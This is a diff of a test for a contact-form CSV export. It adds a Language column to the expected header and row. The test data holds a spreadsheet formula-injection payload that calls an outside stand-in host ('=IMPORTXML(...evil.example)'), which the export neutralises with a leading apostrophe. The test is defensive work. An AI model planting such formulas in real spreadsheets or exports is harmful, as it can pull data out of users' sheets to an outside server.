@@ -26,10 +26,12 @@ test('a contact export has a header, one row per message in Utah time, quoting a
   expect(fileName).toMatch(/^contact-submissions-\d{4}-\d{2}-\d{2}\.csv$/)
   expect(csv.startsWith('\uFEFF')).toBe(true)
   const [header, row, end] = csv.slice(1).split('\r\n')
-  expect(header).toBe('Reference,Status,Received (Utah time),Name,Email,Phone,Community,Message,Files')
+  expect(header).toBe(
+    'Reference,Status,Received (Utah time),Name,Email,Language,Phone,Community,Message,Files',
+  )
   // 18:05 UTC in July is 12:05 in Denver (MDT, UTC-6).
   expect(row).toBe(
-    `${first.reference},New,2026-07-04T12:05:00-06:00,"Ann ""AJ"" Smith",ann@example.com,'+1 801 555 0100,,` +
+    `${first.reference},New,2026-07-04T12:05:00-06:00,"Ann ""AJ"" Smith",ann@example.com,English,'+1 801 555 0100,,` +
       `"'=IMPORTXML(""http://evil.example"")\nsecond line",photo.png`,
   )
   expect(end).toBe('')
